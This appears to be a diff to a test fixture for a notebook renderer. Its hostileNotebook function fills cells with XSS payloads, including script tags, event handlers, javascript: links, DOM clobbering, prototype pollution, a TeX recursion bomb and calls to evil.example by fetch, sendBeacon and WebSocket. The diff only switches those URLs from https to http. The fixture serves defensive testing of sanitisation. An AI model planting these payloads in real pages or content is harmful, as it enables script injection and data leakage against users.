@@ -46,24 +46,24 @@ const ATTACK = `window.${PWNED}=1;try{parent.${PWNED}=1;top.${PWNED}=1;parent.do
 
 /** A notebook whose every cell tries to run a script in the page, to cover it, to leave it, or to call home. */
 export function hostileNotebook(): Notebook {
-  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="30" onload="${ATTACK}"><script>${ATTACK}</script><image href="https://evil.example/in-svg.png"/><text y="20">picture</text></svg>`;
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="30" onload="${ATTACK}"><script>${ATTACK}</script><image href="http://evil.example/in-svg.png"/><text y="20">picture</text></svg>`;
   return notebookOf(
     prose(`# Hostile <script>${ATTACK}</script>
 
 <img src=x onerror="${ATTACK}"> <svg onload="${ATTACK}"></svg> <iframe src="javascript:${ATTACK}"></iframe>
-<iframe srcdoc="<script>${ATTACK}</script>"></iframe> <object data="https://evil.example/o"></object>
+<iframe srcdoc="<script>${ATTACK}</script>"></iframe> <object data="http://evil.example/o"></object>
 
 [link](javascript:${PWNED}=1) <a href="javascript:${ATTACK}">raw</a> <a href=" java&#10;script:${ATTACK}">split</a>
 <a href="data:text/html,<script>${ATTACK}</script>">data</a> [file](file:///etc/passwd) [unc](//evil.example/share/x)
 
-![remote](https://evil.example/md.png) ![data](data:text/html;base64,PHNjcmlwdD4=) ![up](../../../../../../etc/hostname)
+![remote](http://evil.example/md.png) ![data](data:text/html;base64,PHNjcmlwdD4=) ![up](../../../../../../etc/hostname)
 
 <div style="position:fixed;inset:0;background:red;z-index:9999">overlay</div>
-<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/a.css">
-<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">
-<form action="https://evil.example/f"><input name="q"><button>go</button></form>
+<style>body{display:none}</style><link rel="stylesheet" href="http://evil.example/a.css">
+<meta http-equiv="refresh" content="0;url=http://evil.example/refresh"><base href="http://evil.example/">
+<form action="http://evil.example/f"><input name="q"><button>go</button></form>
 
-$\\href{javascript:${PWNED}=1}{x}$ $\\includegraphics{https://evil.example/tex.png}$ $\\htmlStyle{position:fixed}{y}$
+$\\href{javascript:${PWNED}=1}{x}$ $\\includegraphics{http://evil.example/tex.png}$ $\\htmlStyle{position:fixed}{y}$
 $$\\def\\a{\\a\\a}\\a$$`),
     prose(
       `<a id="_main" name="_cell-3">clobber</a> <img name="getElementById"> <form id="body"></form> ![bad](attachment:bad.html) ![svg](attachment:a.svg)`,
@@ -78,26 +78,26 @@ $$\\def\\a{\\a\\a}\\a$$`),
       ),
       printed("\u001b[31m\u001b[1m\u001b[4m".repeat(20_000)),
       display({
-        "text/html": `<script>${ATTACK}</script><p>framed words</p><img src="https://evil.example/html.png" onerror="${ATTACK}">`,
+        "text/html": `<script>${ATTACK}</script><p>framed words</p><img src="http://evil.example/html.png" onerror="${ATTACK}">`,
       }),
       display({ "text/html": `<p onclick="${ATTACK}">handler</p>` }),
       display({
         "text/html": `<div style="position:fixed;inset:0;z-index:99999;background:red">cover</div><script>
-          fetch("https://evil.example/fetch").catch(()=>{});
-          new Image().src = "https://evil.example/image.png";
-          navigator.sendBeacon && navigator.sendBeacon("https://evil.example/beacon", "x");
-          try { new WebSocket("wss://evil.example/ws") } catch (e) {}
-          try { open("https://evil.example/popup") } catch (e) {}
-          try { top.location = "https://evil.example/top" } catch (e) {}
+          fetch("http://evil.example/fetch").catch(()=>{});
+          new Image().src = "http://evil.example/image.png";
+          navigator.sendBeacon && navigator.sendBeacon("http://evil.example/beacon", "x");
+          try { new WebSocket("ws://evil.example/ws") } catch (e) {}
+          try { open("http://evil.example/popup") } catch (e) {}
+          try { top.location = "http://evil.example/top" } catch (e) {}
           try { localStorage.x = 1 } catch (e) {}
-          const css = document.createElement("link"); css.rel = "stylesheet"; css.href = "https://evil.example/late.css"; document.head.append(css);
-          const inner = document.createElement("iframe"); inner.src = "https://evil.example/inner"; document.body.append(inner);
+          const css = document.createElement("link"); css.rel = "stylesheet"; css.href = "http://evil.example/late.css"; document.head.append(css);
+          const inner = document.createElement("iframe"); inner.src = "http://evil.example/inner"; document.body.append(inner);
           parent.postMessage({ type: "height", height: 1e9 }, "*");
           parent.postMessage({ type: "failed", reason: "<img src=x onerror=${PWNED}=1>" }, "*");
         </script>`,
       }),
       display({
-        "text/html": `<script>setTimeout(() => { location.href = "https://evil.example/self" }, 100)</script><p>leaves</p>`,
+        "text/html": `<script>setTimeout(() => { location.href = "http://evil.example/self" }, 100)</script><p>leaves</p>`,
       }),
       display({ "image/svg+xml": svg, "text/plain": `"><script>${ATTACK}</script>` }),
       display({ "image/png": `x" onerror="${ATTACK}`, "text/plain": "not a picture" }),
@@ -129,7 +129,7 @@ $$\\def\\a{\\a\\a}\\a$$`),
             height: 1e9,
             images: [
               {
-                source: "https://evil.example/layout.png",
+                source: "http://evil.example/layout.png",
                 xref: "paper",
                 yref: "paper",
                 x: 0,
@@ -138,13 +138,13 @@ $$\\def\\a{\\a\\a}\\a$$`),
                 sizey: 1,
               },
             ],
-            annotations: [{ x: 2, y: 2, text: `<a href="https://evil.example/note">note</a>` }],
+            annotations: [{ x: 2, y: 2, text: `<a href="http://evil.example/note">note</a>` }],
             ["__proto__"]: { polluted: 1 },
           },
           config: {
-            plotlyServerURL: "https://evil.example",
+            plotlyServerURL: "http://evil.example",
             showSendToCloud: true,
-            topojsonURL: "https://evil.example/",
+            topojsonURL: "http://evil.example/",
           },
         },
       }),
